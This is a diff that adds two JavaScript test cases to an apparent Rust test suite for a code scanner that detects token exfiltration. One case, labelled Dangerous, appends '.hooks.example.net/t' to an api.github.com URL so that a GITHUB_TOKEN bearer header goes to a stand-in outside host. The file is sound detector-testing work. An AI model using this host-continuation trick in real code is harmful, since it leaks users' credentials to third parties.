@@ -1030,6 +1030,20 @@ fn api_origin_followed_by_a_run_time_path() {
             Dangerous,
             "exfiltration",
         ),
+        // Paths from several calls, one known only at run time.
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://api.github.com${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh(`/repos/${process.argv[2]}`);\ngh(process.argv[3]);\n",
+            Clean,
+            "",
+        ),
+        // One of them continues the host name.
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://api.github.com${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh('/user');\ngh('.hooks.example.net/t');\n",
+            Dangerous,
+            "exfiltration",
+        ),
     ];
     for (lang, code, verdict, category) in cases {
         check(*lang, code, *verdict, category);
